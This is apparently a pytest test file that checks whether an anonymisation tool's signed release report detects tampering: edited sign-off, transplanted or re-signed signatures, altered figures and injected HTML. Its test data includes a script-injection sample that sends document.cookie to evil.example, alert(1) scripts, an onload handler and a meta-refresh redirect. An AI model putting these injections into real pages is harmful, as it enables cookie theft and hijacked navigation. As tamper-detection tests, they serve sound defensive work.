"""Tamper corpus for the signed release report: every edit a holder of the file can make (sign-off
fields, time, audit trail, a transplanted or removed signature, metadata, the inlined plotly.js,
figures, chart data, the released file) makes ``verify`` exit 4 with the public key; the sign-off
and metadata edits also fail without it (unless ``--no-signature``). Key-loading errors are one
clear line; numbers print formatted."""

from __future__ import annotations

import base64
import contextlib
import copy
import html
import io
import json
import re
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from anon_core import report as R
from anon_core.cli import main
from anon_core.config import load_config
from anon_core.data.io import write_table
from anon_core.errors import ConfigError
from anon_core.report.model import Report
from anon_core.report.numbers import count, number, percent, percent_interval
from anon_core.services.inputs import problem_for_release

SIGNOFF = {"name": "Ada Lovelace", "role": "DPO", "decision": "approve", "comments": "Fine."}
AUDIT = [
    {"change": "roles", "at": "2025-01-02T10:00:00+00:00"},
    {"change": "privacy models", "at": "2025-01-02T10:05:00+00:00"},
]
PRIVATE_MARKER = "NOT-A-KEY-4f1c"  # garbage "key material" that must never be echoed


# ----------------------------------------------------------------------------- the signed case
def _pem(key: Ed25519PrivateKey) -> bytes:
    return key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )


def _public_pem(key: Ed25519PrivateKey) -> bytes:
    return key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def _write_sample(folder: Path, **extra) -> Path:
    rng = np.random.default_rng(3)
    n = 120
    frame = pd.DataFrame(
        {
            "age": rng.integers(20, 70, n),
            "zip": rng.choice(["02139", "02138", "02141", "02142"], n),
            "sex": rng.choice(["F", "M"], n),
            "disease": rng.choice(["flu", "cold", "asthma"], n),
        }
    )
    frame.to_csv(folder / "data.csv", index=False)
    config = {
        "input": {"path": "data.csv"},
        "attributes": {
            "age": {"role": "quasi-identifier", "hierarchy": {"builder": "intervals", "width": 10}},
            "zip": {"role": "quasi-identifier", "hierarchy": {"builder": "masking"}},
            "sex": {"role": "quasi-identifier"},
            "disease": {"role": "sensitive"},
        },
        "privacy_models": [{"model": "k-anonymity", "k": 3}],
        "suppression_limit": 0.1,
        **extra,
    }
    (folder / "config.json").write_text(json.dumps(config))
    return folder / "config.json"


@pytest.fixture(scope="module")
def case(tmp_path_factory):
    folder = tmp_path_factory.mktemp("tamper")
    cfg = _write_sample(folder)
    key, attacker = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
    (folder / "key.pem").write_bytes(_pem(key))
    (folder / "key.pub.pem").write_bytes(_public_pem(key))
    config = load_config(cfg)
    problem, _, _ = problem_for_release(config)
    found = problem.search(**config.search)
    write_table(problem.apply(found.optimum, config.suppressed_records), folder / "out.csv")

    def build(**kw):
        return R.build_report(
            cfg, problem, found.optimum, search_result=found, released=folder / "out.csv", **kw
        )

    signed = build(signoff=SIGNOFF, audit=AUDIT, signing_key=key)
    R.write_report(signed, folder / "r.html")
    R.write_report(signed, folder / "r.pdf")
    # another report signed with the same key (no sign-off): the source of a transplant
    R.write_report(build(signing_key=key), folder / "other.html")
    R.write_report(build(), folder / "unsigned.html")  # no signature, no sign-off
    return {"folder": folder, "key": key, "attacker": attacker, "problem": problem}


def _verify(folder: Path, report: str, *extra: str) -> tuple[int, dict, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.chdir(folder), contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(["verify", "config.json", report, *extra])
    return code, (json.loads(out.getvalue()) if out.getvalue() else {}), err.getvalue()


def _embedded(path: Path) -> dict:
    return copy.deepcopy(R.read_report(path))


def _render(embedded: dict) -> str:
    """The page an attacker with this software writes from edited blocks (consistently re-rendered)."""
    return R.render_html(Report.from_embedded(embedded))


def _forge(edit: Callable[[dict], None], source: str = "r.html") -> Callable[[Path], bytes]:
    def make(folder: Path) -> bytes:
        e = _embedded(folder / source)
        edit(e)
        return _render(e).encode("utf-8")

    return make


def _raw(edit: Callable[[str], str], source: str = "r.html") -> Callable[[Path], bytes]:
    def make(folder: Path) -> bytes:
        text = (folder / source).read_text(encoding="utf-8")
        edited = edit(text)
        assert edited != text
        return edited.encode("utf-8")

    return make


def _set(path: str, value) -> Callable[[dict], None]:
    def edit(e: dict) -> None:
        *head, last = path.split(".")
        d = e
        for k in head:
            d = d[k]
        d[last] = value

    return edit


def _transplant(e: dict, folder: Path) -> None:
    e["meta"]["signature"] = _embedded(folder / "other.html")["meta"]["signature"]


def _resign_with(e: dict, key: Ed25519PrivateKey) -> None:
    """Edit the sign-off and sign everything again with another (the attacker's) key."""
    from anon_core.report.signature import sign, signing_payload

    e["provided"]["signoff"]["decision"] = "reject"
    r = Report.from_embedded(e)
    e["meta"]["signature"] = sign(
        key, signing_payload(r.figures, r.config, r.meta, r.provided, r.details)
    )


def _library_with_code(text: str) -> str:
    """The audit's tamper: code appended inside the inlined plotly.js, plus a <script> carried in."""
    start = text.index('<script type="text/javascript">') + len('<script type="text/javascript">')
    end = text.index("</script>", start)
    return (
        text[:start]
        + text[start:end]
        + ";fetch('https://evil.example/'+document.cookie)"
        + "</script><script>alert(1)"
        + text[end:]
    )


def _plotly_version(version: str) -> Callable[[dict], None]:
    def edit(e: dict) -> None:
        e["meta"]["software"]["plotly"] = version
        e["meta"]["libraries"]["plotly.min.js"]["version"] = version

    return edit


def _edited_figure(e: dict) -> None:
    e["figures"]["risk"]["after"]["prosecutor"]["highest_risk"] = 0.01
    e["meta"]["figures_sha256"] = R.figures_sha256(e["figures"])


def _edited_chart(e: dict) -> None:
    first = next(iter(e["details"]["distributions"].values()))
    first["released"][0] = first["released"][0] + 0.25


# Sign-off and metadata edits, consistently re-rendered: only the signature can catch them.
SIGNED_ONLY: dict[str, Callable[[Path], bytes]] = {
    "sign-off name edited": _forge(_set("provided.signoff.name", "Grace Hopper")),
    "sign-off role edited": _forge(_set("provided.signoff.role", "Chief executive")),
    "sign-off decision edited": _forge(_set("provided.signoff.decision", "reject")),
    "sign-off comments edited": _forge(_set("provided.signoff.comments", "Approved for all.")),
    "sign-off date added": _forge(_set("provided.signoff.date", "2024-01-01")),
    "sign-off added to a report signed without one": _forge(
        _set("provided.signoff", SIGNOFF), source="other.html"
    ),
    "time back-dated": _forge(_set("meta.generated_at", "2020-01-01T00:00:00Z")),
    "audit entry edited": _forge(_set("provided.audit", [AUDIT[0], {**AUDIT[1], "change": "k"}])),
    "audit entry removed": _forge(_set("provided.audit", AUDIT[:1])),
    "how the transformation was chosen edited": _forge(_set("provided.chosen_by", "manual")),
    "numpy version edited": _forge(_set("meta.software.numpy", "1.0.0")),
    "search_ms edited": _forge(_set("meta.search_ms", 1.0)),
    "signature removed": _forge(lambda e: e["meta"].pop("signature")),
}
# Edits that the checks beyond the signature catch too (libraries, scripts, figures, files).
CONTENT: dict[str, Callable[[Path], bytes]] = {
    "plotly.js edited to carry a <script>": _raw(_library_with_code),
    "plotly.js edited and the plotly version changed to match": lambda folder: _library_with_code(
        _forge(_plotly_version("5.0.0"))(folder).decode("utf-8")
    ).encode("utf-8"),
    "<script> added after the page": _raw(lambda t: t + "<script>alert(1)</script>"),
    "event handler added": _raw(lambda t: t.replace("<body>", '<body onload="alert(1)">', 1)),
    "stylesheet edited to hide the verdict": _raw(
        lambda t: t.replace("</style>", ".bad{display:none}</style>", 1)
    ),
    "redirect injected": _raw(
        lambda t: t.replace(
            "<title>", '<meta http-equiv="refresh" content="0;url=https://evil.example/"><title>', 1
        )
    ),
    "library record edited in the metadata": _forge(
        lambda e: e["meta"]["libraries"]["plotly.min.js"].update(sha256="0" * 64)
    ),
    "figure edited and re-hashed": _forge(_edited_figure),
    "chart data edited": _forge(_edited_chart),
    "embedded configuration edited": _forge(
        _set("config.privacy_models", [{"model": "k-anonymity", "k": 2}])
    ),
    "visible decision edited": _raw(
        lambda t: t.replace("<th>decision</th><td>approve</td>", "<th>decision</th><td>reject</td>")
    ),
}


def _write(folder: Path, name: str, make: Callable[[Path], bytes]) -> str:
    target = "t-" + re.sub(r"\W+", "-", name) + ".html"
    (folder / target).write_bytes(make(folder))
    return target


def test_the_untouched_signed_report_verifies_only_with_its_key(case):
    folder = case["folder"]
    for report in ("r.html", "r.pdf"):
        code, out, _ = _verify(
            folder, report, "--released", "out.csv", "--public-key", "key.pub.pem"
        )
        assert (code, out["signature"], out["release_file"]) == (0, "valid", "matches"), report
        code, out, err = _verify(folder, report, "--released", "out.csv")
        assert (code, out["signature"]) == (4, "unverified"), report
        assert "UNVERIFIED" in err and "--public-key" in err
        code, out, err = _verify(folder, report, "--released", "out.csv", "--no-signature")
        assert (code, out["signature"]) == (0, "skipped"), report
        assert "NOT checked" in out["status"] and "--no-signature" in err
    # an unsigned report without a sign-off has nothing to verify beyond the figures
    code, out, _ = _verify(folder, "unsigned.html")
    assert (code, out["signature"]) == (0, "not signed")


def test_corpus_is_large_enough():
    assert len(SIGNED_ONLY) + len(CONTENT) + 3 >= 15  # + transplant, re-signed, released-file edit


@pytest.mark.parametrize("name", list(SIGNED_ONLY))
def test_a_signoff_or_metadata_edit_fails_with_and_without_the_key(case, name):
    folder = case["folder"]
    target = _write(folder, name, SIGNED_ONLY[name])
    code, out, err = _verify(folder, target, "--public-key", "key.pub.pem")
    assert code == 4 and out["signature"] == "invalid", (name, err)
    code, out, err = _verify(folder, target)
    assert code == 4 and out["signature"] == "unverified" and "UNVERIFIED" in err, (name, err)


def test_a_signoff_edit_passes_with_no_signature_and_says_it_was_not_checked(case):
    folder = case["folder"]
    target = _write(folder, "decision", SIGNED_ONLY["sign-off decision edited"])
    code, out, err = _verify(folder, target, "--no-signature")
    assert code == 0 and out["signature"] == "skipped"
    assert "the sign-off and signature were NOT checked (--no-signature)" in err


def test_a_transplanted_signature_fails(case):
    folder = case["folder"]
    e = _embedded(folder / "r.html")
    _transplant(e, folder)
    (folder / "transplant.html").write_text(_render(e), encoding="utf-8")
    code, out, err = _verify(folder, "transplant.html", "--public-key", "key.pub.pem")
    assert code == 4 and out["signature"] == "invalid"
    assert "signature: INVALID" in err
    assert _verify(folder, "transplant.html")[0] == 4


def test_a_report_re_signed_with_another_key_fails(case):
    folder = case["folder"]
    e = _embedded(folder / "r.html")
    _resign_with(e, case["attacker"])
    (folder / "resigned.html").write_text(_render(e), encoding="utf-8")
    code, out, err = _verify(folder, "resigned.html", "--public-key", "key.pub.pem")
    assert code == 4 and "not with the public key given" in err
    assert _verify(folder, "resigned.html")[0] == 4


@pytest.mark.parametrize("name", list(CONTENT))
def test_a_content_edit_fails_in_every_mode(case, name):
    folder = case["folder"]
    target = _write(folder, name, CONTENT[name])
    for mode in (("--public-key", "key.pub.pem"), (), ("--no-signature",)):
        code, out, err = _verify(folder, target, *mode)
        assert code == 4 and out["differences"], (name, mode, err)


def test_the_audits_plotly_tamper_names_what_differs(case):
    folder = case["folder"]
    target = _write(
        folder, "audit plotly", CONTENT["plotly.js edited and the plotly version changed to match"]
    )
    code, out, err = _verify(folder, target, "--public-key", "key.pub.pem", "--released", "out.csv")
    assert code == 4 and out["signature"] == "invalid"
    assert any(
        "inlined plotly.js" in d and "is not the installed plotly" in d for d in out["differences"]
    )
    assert any("<script>" in d and "not part of the report" in d for d in out["differences"])


def test_a_one_byte_edit_of_the_released_file_fails(case):
    folder = case["folder"]
    data = bytearray((folder / "out.csv").read_bytes())
    data[-2] = ord("x") if data[-2] != ord("x") else ord("y")
    (folder / "edited.csv").write_bytes(bytes(data))
    for mode in (("--public-key", "key.pub.pem"), ("--no-signature",)):
        code, out, err = _verify(folder, "r.html", "--released", "edited.csv", *mode)
        assert code == 4 and out["release_file"] == "differs", err
        assert "released file edited.csv: SHA-256" in err


def test_an_edited_signed_pdf_fails(case):
    from anon_core.report.pdf import render_pdf

    folder = case["folder"]
    e = _embedded(folder / "r.pdf")
    e["provided"]["signoff"]["name"] = "Grace Hopper"
    (folder / "t.pdf").write_bytes(render_pdf(Report.from_embedded(e)))
    assert _verify(folder, "t.pdf", "--public-key", "key.pub.pem")[0] == 4
    assert _verify(folder, "t.pdf")[0] == 4


def test_edited_blocks_that_do_not_render_are_a_difference_not_a_traceback(case):
    folder = case["folder"]
    e = _embedded(folder / "r.html")
    text = (folder / "r.html").read_text(encoding="utf-8")
    bad = dict(e["meta"], search_ms="fast", generated_at=20200101)
    edited = text.replace(
        f'id="release-meta">{_script_json(e["meta"])}', f'id="release-meta">{_script_json(bad)}', 1
    )
    assert edited != text
    (folder / "broken.html").write_text(edited, encoding="utf-8")
    code, out, err = _verify(folder, "broken.html", "--no-signature")
    assert code == 4 and any("do not render" in d for d in out["differences"]), err
    assert "Traceback" not in err


def _script_json(obj) -> str:
    text = json.dumps(obj, ensure_ascii=False, allow_nan=False)
    return text.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")


# ----------------------------------------------------------------------------- key errors
def _anonymize(folder: Path) -> tuple[int, str]:
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        code = main(["anonymize", str(folder / "config.json"), "--report", str(folder / "k.html")])
    return code, err.getvalue()


def _one_error_line(err: str) -> str:
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert "Traceback" not in err
    return lines[0]


def _rsa_pem() -> bytes:
    from cryptography.hazmat.primitives.asymmetric import rsa

    return rsa.generate_private_key(public_exponent=65537, key_size=1024).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )


@pytest.mark.parametrize(
    "what, data, expect",
    [
        ("garbage", f"{PRIVATE_MARKER} this is no key\n".encode(), "not an unencrypted Ed25519"),
        (
            "garbage PEM",
            f"-----BEGIN PRIVATE KEY-----\n{PRIVATE_MARKER}\n-----END PRIVATE KEY-----\n".encode(),
            "not an unencrypted Ed25519",
        ),
        ("5 bytes in base64", base64.b64encode(b"hello"), "not an unencrypted Ed25519"),
        ("an RSA key", None, "not an Ed25519 key"),
        ("an encrypted key", "encrypted", "not an unencrypted Ed25519"),
        ("too large", b"A" * (64 * 1024), "is not an Ed25519"),
    ],
)
def test_a_bad_signing_key_file_is_one_clear_line(tmp_path, what, data, expect):
    _write_sample(tmp_path, output={"signing_key_file": "key.pem"})
    if data is None:
        data = _rsa_pem()
    elif data == "encrypted":
        data = Ed25519PrivateKey.generate().private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.BestAvailableEncryption(b"pass phrase"),
        )
    (tmp_path / "key.pem").write_bytes(data)
    code, err = _anonymize(tmp_path)
    line = _one_error_line(err)
    assert code == 2 and expect in line, (what, line)
    assert "openssl genpkey -algorithm ed25519" in line  # how to make a valid key
    assert PRIVATE_MARKER not in err
    assert not [
        c for c in data.decode("latin-1").split() if len(c) >= 8 and c in err
    ]  # no key material
    assert not (tmp_path / "k.html").exists()


@pytest.mark.parametrize("value", ["hello", base64.b64encode(b"hello").decode(), PRIVATE_MARKER])
def test_a_bad_signing_key_in_the_environment_is_one_clear_line(tmp_path, monkeypatch, value):
    _write_sample(tmp_path, output={"signing_key_env": "ANON_TEST_TAMPER_KEY"})
    monkeypatch.setenv("ANON_TEST_TAMPER_KEY", value)
    code, err = _anonymize(tmp_path)
    line = _one_error_line(err)
    assert code == 2 and "the environment variable ANON_TEST_TAMPER_KEY" in line
    assert "openssl genpkey" in line and value not in line


def test_a_bad_public_key_for_verify_is_one_clear_line(case, tmp_path):
    folder = case["folder"]
    bad = {
        "garbage.pub": f"{PRIVATE_MARKER}\n".encode(),
        "garbage-pem.pub": f"-----BEGIN PUBLIC KEY-----\n{PRIVATE_MARKER}\n-----END PUBLIC KEY-----\n".encode(),
        "short.pub": base64.b64encode(b"hello"),
        "ssh.pub": f"ssh-ed25519 {PRIVATE_MARKER}".encode(),
    }
    for name, data in bad.items():
        (folder / name).write_bytes(data)
        code, _, err = _verify(folder, "r.html", "--public-key", name)
        line = _one_error_line(err)
        assert code == 2 and "is not an Ed25519 public key" in line and PRIVATE_MARKER not in err, (
            name
        )
    code, _, err = _verify(
        folder, "r.html", "--public-key", "key.pem"
    )  # the private key by mistake
    line = _one_error_line(err)
    assert code == 2 and "holds a private key" in line
    body = (folder / "key.pem").read_text().splitlines()[1]
    assert body not in err
    code, _, err = _verify(folder, "r.html", "--public-key", "key.pub.pem", "--no-signature")
    assert code == 2 and "not both" in _one_error_line(err)


def test_key_errors_are_config_errors_in_the_library(tmp_path):
    from anon_core.report.signature import configured_private_key, load_public_key

    (tmp_path / "k.pem").write_bytes(b"garbage")
    with pytest.raises(ConfigError, match="openssl genpkey"):
        configured_private_key({"signing_key_file": "k.pem"}, tmp_path)
    with pytest.raises(ConfigError, match="not an Ed25519 public key"):
        load_public_key(tmp_path / "k.pem")


# ----------------------------------------------------------------------------- numbers
def test_number_formatting_by_hand():
    assert percent(1 / 13) == "7.7%"  # 7.6923...%
    assert percent(1) == "100.0%" and percent(0) == "0.0%"
    assert percent(0.0004) == "<0.1%" and percent(0.9996) == ">99.9%"
    assert percent(None) == "n/a" and percent(float("nan")) == "n/a"
    assert percent_interval(0.38, 0.33, 0.43) == "38.0% [33.0–43.0%]"
    assert percent_interval(0.38, None, 0.43) == "38.0%"
    assert count(30162) == "30,162" and count(1234567.0) == "1,234,567"
    assert number(0.0769231) == "0.07692" and number(12345.678) == "12,346"
    assert number(3.0) == "3" and number(2.5) == "2.5" and number(None) == "n/a"


def _visible_text(page: str) -> str:
    page = re.sub(r"<script.*?</script>|<style.*?</style>|<pre>.*?</pre>", " ", page, flags=re.S)
    return html.unescape(re.sub(r"<[^>]+>", " ", page))


def test_the_report_prints_risks_as_percentages_and_no_raw_float(case):
    folder = case["folder"]
    page = (folder / "r.html").read_text(encoding="utf-8")
    # the highest prosecutor risk, by hand: 1 / the smallest class of the input and of the release
    data = pd.read_csv(folder / "data.csv")
    smallest_before = data.groupby(["age", "zip", "sex"]).size().min()
    released = pd.read_csv(folder / "out.csv", dtype=str)
    kept = released[~(released[["age", "zip", "sex"]] == "*").all(axis=1)]
    smallest_after = kept.groupby(["age", "zip", "sex"]).size().min()
    expected = f"{100 / smallest_before:.1f}% before, {100 / smallest_after:.1f}% after"
    assert f"<th>highest prosecutor risk</th><td>{expected}</td>" in page
    text = _visible_text(page)
    raw = [
        m.group(0)
        for m in re.finditer(r"(?<![\w.])\d[\d,]*\.\d+(?![\d.])", text)
        if len(m.group(0).replace(",", "").replace(".", "").lstrip("0")) > 4
    ]
    assert raw == [], raw[:10]


def test_software_that_differs_from_this_machine_is_noted(case):
    folder = case["folder"]
    target = _write(folder, "numpy", SIGNED_ONLY["numpy version edited"])
    code, out, _ = _verify(folder, target, "--no-signature")
    assert code == 0 and out["signature"] == "skipped"
    assert any(
        n.startswith("the report was made with numpy 1.0.0; this machine has") for n in out["notes"]
    )
    code, out, _ = _verify(folder, "r.html", "--public-key", "key.pub.pem")
    assert code == 0 and not any("was made with" in n for n in out["notes"])


def _with_block(text: str, name: str, old, new) -> str:
    """The page with one embedded JSON block replaced (the rest of the page left as it was)."""
    before = f'id="release-{name}">{_script_json(old)}</script>'
    assert before in text
    return text.replace(before, f'id="release-{name}">{_script_json(new)}</script>', 1)


@pytest.mark.parametrize(
    "block, edit, says",
    [
        ("provided", lambda b: b.update(signoff="approved by the DPO"), "the report was edited"),
        ("provided", lambda b: b.update(audit={"change": "none"}), "the report was edited"),
        ("meta", lambda b: b.update(signature="valid"), "the report was edited"),
        (
            "meta",
            lambda b: b.update(libraries={"plotly.min.js": "7.1.0"}),
            'metadata records plotly.min.js as "7.1.0"',
        ),
        ("figures", lambda b: b["output"].update(file="released.csv"), "the report was edited"),
    ],
)
def test_a_block_edited_into_another_shape_is_a_difference_not_a_traceback(case, block, edit, says):
    folder = case["folder"]
    e = _embedded(folder / "r.html")
    new = copy.deepcopy(e[block])
    edit(new)
    text = (folder / "r.html").read_text(encoding="utf-8")
    (folder / "shape.html").write_text(_with_block(text, block, e[block], new), encoding="utf-8")
    for mode in (("--public-key", "key.pub.pem"), ("--no-signature",)):
        code, out, err = _verify(folder, "shape.html", *mode)
        assert code == 4 and says in out["differences"][0], (block, err)
        assert "Traceback" not in err


def test_a_signature_of_the_earlier_scheme_is_refused_with_a_clear_message(case):
    folder = case["folder"]
    e = _embedded(folder / "r.html")
    e["meta"]["signature"]["schema"] = "anon-core/signoff-signature/1"
    (folder / "v1.html").write_text(_render(e), encoding="utf-8")
    code, out, err = _verify(folder, "v1.html", "--public-key", "key.pub.pem")
    assert code == 4 and out["signature"] == "invalid"
    assert "does not cover the metadata and embedded libraries" in err
